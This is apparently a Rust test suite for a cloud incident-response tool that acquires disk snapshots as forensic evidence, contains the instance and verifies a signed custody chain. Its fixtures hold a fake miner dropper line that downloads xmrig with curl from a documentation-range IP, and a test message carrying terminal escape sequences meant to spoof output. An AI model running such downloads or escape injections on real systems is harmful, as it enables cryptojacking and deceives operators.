//! The acquisition pipeline against the fake world: two accounts (member and
//! forensics) that see each other's shared snapshots, a real evidence case on the
//! in-memory store, and a crash injected after each call.

use std::sync::Arc;
use std::time::Duration;

use cleanroom::cloud::{Accounts, SnapshotState, TrailEvent, TrailResource};
use cleanroom::evidence::signing::{KeySource, TrustedKey};
use cleanroom::evidence::{Actor, Case, LockMode, Retention, ToolInfo};
use cleanroom::fake::accounts::FakeAccounts;
use cleanroom::fake::cloud::FakeCloud;
use cleanroom::fake::signer::LocalSigner;
use cleanroom::fake::store::MemoryStore;
use cleanroom::ids::{CaseId, InstanceId};
use cleanroom::pipeline::custody::CaseCustody;
use cleanroom::pipeline::journal::Journal;
use cleanroom::pipeline::{Run, Selection, Settings, Stage, Target, TargetState, execute};
use cleanroom::progress::Silent;
use cleanroom::verify::{Trust, VerifyOptions, verify_case};

const FORENSICS: &str = "999988887777";

/// Verification with the signing key given out of band, as an examiner would.
fn trusted() -> VerifyOptions {
    let pem = LocalSigner::from_seed(7).public_key_pem();
    VerifyOptions {
        trust: Trust::Key(
            TrustedKey::from_bytes(pem.as_bytes(), KeySource::File { path: "signing.pem".into() }).unwrap(),
        ),
    }
}
const MINER: &str = "#!/bin/bash\ncurl -s http://203.0.113.66/x/xmrig -o /tmp/.cache/xmrig\n";

fn case() -> CaseId {
    "IR-ACQ-1".parse().unwrap()
}

/// The incident, seeded: a service instance with two volumes (one under aws/ebs, one
/// unencrypted), a miner in its UserData, its launch in CloudTrail, a hand-off key in
/// the member account and a forensics key in the forensics account.
struct Incident {
    accounts: Arc<FakeAccounts>,
    member: Arc<FakeCloud>,
    instance: InstanceId,
    store: Arc<MemoryStore>,
}

impl Incident {
    fn new() -> Self {
        let member = Arc::new(FakeCloud::new());
        let instance = member.seed_service_instance();
        let accounts = Arc::new(FakeAccounts::new(member.clone(), FORENSICS));
        let forensics = accounts.forensics_cloud();
        forensics.add_key("alias/forensics", &[]);
        member.add_key("alias/cleanroom-handoff", &[&accounts.forensics_account]);
        let volumes: Vec<_> = member.state.lock().unwrap().instances[&instance]
            .volumes
            .iter()
            .map(|v| v.volume.clone())
            .collect();
        member.encrypt_volume(&volumes[0], None);
        member.set_guest_data(&instance, MINER.as_bytes(), b"[    0.000000] Linux version 6.1\n");
        member.add_event(TrailEvent {
            event_id: "e-launch".into(),
            event_name: "RunInstances".into(),
            event_time: "2026-11-30T08:00:00Z".into(),
            event_source: Some("ec2.amazonaws.com".into()),
            username: Some("dev-ci".into()),
            access_key_id: Some("AKIAEXAMPLELEAKED01".into()),
            resources: vec![TrailResource {
                resource_type: Some("AWS::EC2::Instance".into()),
                name: Some(instance.to_string()),
            }],
            cloudtrail_event: Some(
                r#"{"sourceIPAddress":"203.0.113.66","userAgent":"aws-cli/2 \u001b[31m"}"#.into(),
            ),
        });
        member.set_snapshot_polls(2);
        let store = Arc::new(MemoryStore::with_default_lock("evidence", LockMode::Compliance, 30));
        Self { accounts, member, instance, store }
    }

    async fn run(&self) -> Result<Vec<TargetState>, String> {
        let actor = Actor {
            examiner: "Ada Examiner".into(),
            principal_arn: format!("arn:aws:sts::{FORENSICS}:assumed-role/CleanroomForensics/test"),
            account: FORENSICS.parse().unwrap(),
            session_name: "cleanroom-test".into(),
        };
        let tool =
            ToolInfo { name: "cleanroom".into(), version: "test".into(), binary_sha256: "sha256:00".into() };
        let opened = Case::open_signed(
            self.store.clone(),
            &case(),
            actor,
            tool,
            "sha256:config".into(),
            Retention::explicit(LockMode::Compliance, 30),
            Arc::new(LocalSigner::from_seed(7)),
        )
        .await
        .map_err(|e| e.to_string())?;
        let journal = Journal::open(self.store.clone(), &case(), opened.lock_now_for_journal())
            .await
            .map_err(|e| e.to_string())?;
        let forensics_key = self
            .accounts
            .forensics_cloud()
            .world
            .ebs
            .lock()
            .unwrap()
            .keys
            .iter()
            .find(|k| k.aliases.contains(&"alias/forensics".to_owned()))
            .unwrap()
            .arn
            .clone();
        let run = Run {
            case: case(),
            accounts: self.accounts.clone(),
            custody: Arc::new(CaseCustody(opened)),
            journal,
            reporter: Arc::new(Silent),
            settings: Settings {
                concurrency: 4,
                forensics_key,
                handoff_key: "alias/cleanroom-handoff".into(),
                member_role: "CleanroomResponder".into(),
                snapshot_timeout: Duration::from_secs(3600),
                first_poll: Duration::from_millis(10),
                plan_only: false,
                analysis: None,
            },
        };
        let side = self.accounts.member(&self.member.account, &self.member.region).await.unwrap();
        let instance = {
            let s = self.member.state.lock().unwrap();
            s.instance(&self.instance, &s.instances[&self.instance])
        };
        let mut targets = vec![TargetState::new(Target { side, id: self.instance.clone() }, instance)];
        let stages = Selection { isolate: true, analysis: false, isolate_only: false }.stages();
        execute(&run, &stages, &mut targets).await.map_err(|e| e.to_string())?;
        Ok(targets)
    }

    fn forensics_copies(&self) -> Vec<cleanroom::fake::world::FakeSnapshot> {
        self.member
            .all_snapshots()
            .into_iter()
            .filter(|s| {
                s.owner.as_str() == FORENSICS
                    && s.snapshot.tags.get("cleanroom:purpose").map(String::as_str) == Some("evidence")
            })
            .collect()
    }
}

#[tokio::test(start_paused = true)]
async fn acquire_preserves_captures_contains_and_hands_off_both_disks() {
    let w = Incident::new();
    let targets = w.run().await.unwrap();
    let t = &targets[0];
    assert!(t.succeeded(), "{:#?} {:#?}", t.failed, t.checks);
    // Two completed forensics copies under the forensics key, no share left.
    let copies = w.forensics_copies();
    assert_eq!(copies.len(), 2, "{copies:#?}");
    assert!(copies.iter().all(|c| c.snapshot.state == SnapshotState::Completed && c.snapshot.encrypted));
    assert!(w.member.all_snapshots().iter().all(|s| s.shared_with.is_empty()), "a share was left");
    // The aws/ebs volume went through a relay copy under the hand-off key.
    assert_eq!(t.copies.iter().filter(|c| c.relay_copy.is_some()).count(), 1);
    // Capture: the decoded UserData and the launcher.
    let capture = t.capture.as_ref().unwrap();
    assert!(capture.user_data.as_ref().unwrap().preview.as_ref().unwrap().contains("xmrig"));
    assert_eq!(
        capture.trail.launched_by.as_ref().unwrap().access_key_id.as_deref(),
        Some("AKIAEXAMPLELEAKED01")
    );
    assert_eq!(t.containment.as_ref().unwrap().status, cleanroom::isolate::workflow::Status::Isolated);
    let report = verify_case(w.store.as_ref(), &case(), &trusted()).await.unwrap();
    assert!(report.verified(), "{:#?}", report.findings);
}

/// Every resource the case created, by kind, as the cloud holds them.
fn inventory(w: &Incident) -> (usize, usize, usize) {
    let snaps = w.member.all_snapshots();
    let purpose = |p: &str| {
        snaps
            .iter()
            .filter(|s| s.snapshot.tags.get("cleanroom:purpose").map(String::as_str) == Some(p))
            .count()
    };
    (purpose("evidence-source"), purpose("relay"), purpose("evidence"))
}

// A crash after each call of the acquisition, then a rerun by a new process: the case
// completes, nothing is created twice, and the custody chain verifies.
#[tokio::test(start_paused = true)]
async fn a_crash_after_any_call_then_a_rerun_completes_with_nothing_twice() {
    let clean = Incident::new();
    clean.run().await.unwrap();
    let calls = clean.member.log().len();
    assert!(calls > 40, "the acquisition makes {calls} calls");
    for k in (1..calls).step_by(3) {
        let w = Incident::new();
        w.member.crash_after(k);
        let _ = w.run().await;
        w.member.heal();
        let targets = w.run().await.unwrap_or_else(|e| panic!("rerun after a crash at call {k}: {e}"));
        assert!(
            targets[0].succeeded(),
            "crash at call {k}: {:#?} {:#?}",
            targets[0].failed,
            targets[0].checks
        );
        assert_eq!(inventory(&w), (2, 1, 2), "crash at call {k}: a resource was made twice");
        assert!(
            w.member.all_snapshots().iter().all(|s| s.shared_with.is_empty()),
            "crash at call {k}: share left"
        );
        let report = verify_case(w.store.as_ref(), &case(), &trusted()).await.unwrap();
        assert!(report.verified(), "crash at call {k}: {:#?}", report.findings);
    }
}

#[tokio::test(start_paused = true)]
async fn a_snapshot_that_ends_in_error_is_taken_again_once_and_recorded() {
    let w = Incident::new();
    let volume = w.member.state.lock().unwrap().instances[&w.instance].volumes[1].volume.clone();
    w.member.fail_snapshots_of(&volume, 1);
    let targets = w.run().await.unwrap();
    assert!(targets[0].succeeded(), "{:#?}", targets[0].failed);
    assert_eq!(w.forensics_copies().len(), 2);
    let retried = w.member.calls_of("CreateSnapshot");
    assert_eq!(retried.len(), 1, "one single-volume retry");
}

#[tokio::test(start_paused = true)]
async fn a_snapshot_that_fails_twice_is_reported_and_a_rerun_after_the_cause_completes() {
    let w = Incident::new();
    let volume = w.member.state.lock().unwrap().instances[&w.instance].volumes[1].volume.clone();
    w.member.fail_snapshots_of(&volume, 2);
    let targets = w.run().await.unwrap();
    let failed = targets[0].failed.as_ref().expect("reported");
    assert_eq!(failed.stage, Stage::Share);
    assert!(
        failed.error.contains(volume.as_str()) && failed.error.contains("ended in error twice"),
        "{}",
        failed.error
    );
    // Containment did not wait for the disks.
    assert_eq!(
        targets[0].containment.as_ref().unwrap().status,
        cleanroom::isolate::workflow::Status::Isolated
    );
}

#[tokio::test(start_paused = true)]
async fn a_failure_message_with_terminal_escapes_is_printed_inert() {
    let w = Incident::new();
    let volume = w.member.state.lock().unwrap().instances[&w.instance].volumes[1].volume.clone();
    w.member.fail_snapshots_of(&volume, 2);
    w.member.set_snapshot_failure_message("\u{1b}]0;owned\u{7}\u{1b}[2Jdisk gone\nFAKE: all verified");
    let targets = w.run().await.unwrap();
    let failed = targets[0].failed.as_ref().expect("reported");
    assert!(failed.error.contains("disk gone"), "{}", failed.error);
    let text = cleanroom::cli::acquire::render(&case(), &targets, &[]);
    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "{text:?}");
    assert!(!text.lines().any(|l| l.starts_with("FAKE")), "a message line passes for our own: {text}");
}

#[tokio::test(start_paused = true)]
async fn a_forensics_key_the_copy_cannot_use_is_a_clear_error_and_rerun_after_the_fix_completes() {
    let w = Incident::new();
    // The hand-off key's policy does not admit the forensics account.
    {
        let mut ebs = w.member.world.ebs.lock().unwrap();
        let k =
            ebs.keys.iter_mut().find(|k| k.aliases.contains(&"alias/cleanroom-handoff".to_owned())).unwrap();
        k.users.clear();
    }
    let targets = w.run().await.unwrap();
    let failed = targets[0].failed.as_ref().expect("a failure");
    assert!(failed.error.contains("ended in error") && failed.error.contains("fix:"), "{}", failed.error);
    {
        let mut ebs = w.member.world.ebs.lock().unwrap();
        let k =
            ebs.keys.iter_mut().find(|k| k.aliases.contains(&"alias/cleanroom-handoff".to_owned())).unwrap();
        k.users.insert(FORENSICS.parse().unwrap());
    }
    let targets = w.run().await.unwrap();
    assert!(targets[0].succeeded(), "{:#?}", targets[0].failed);
    assert_eq!(inventory(&w).2, 3, "one failed copy (kept, journaled as removed) and two good ones");
    let report = verify_case(w.store.as_ref(), &case(), &trusted()).await.unwrap();
    assert!(report.verified(), "{:#?}", report.findings);
}

#[tokio::test(start_paused = true)]
async fn access_denied_on_sharing_names_the_call_and_a_rerun_completes() {
    let w = Incident::new();
    w.member.deny("ModifySnapshotAttribute");
    let targets = w.run().await.unwrap();
    let failed = targets[0].failed.as_ref().expect("a failure");
    assert!(
        failed.error.contains("ModifySnapshotAttribute") && failed.error.contains("fix:"),
        "{}",
        failed.error
    );
    w.member.heal();
    let targets = w.run().await.unwrap();
    assert!(targets[0].succeeded(), "{:#?}", targets[0].failed);
    assert_eq!(inventory(&w), (2, 1, 2));
}
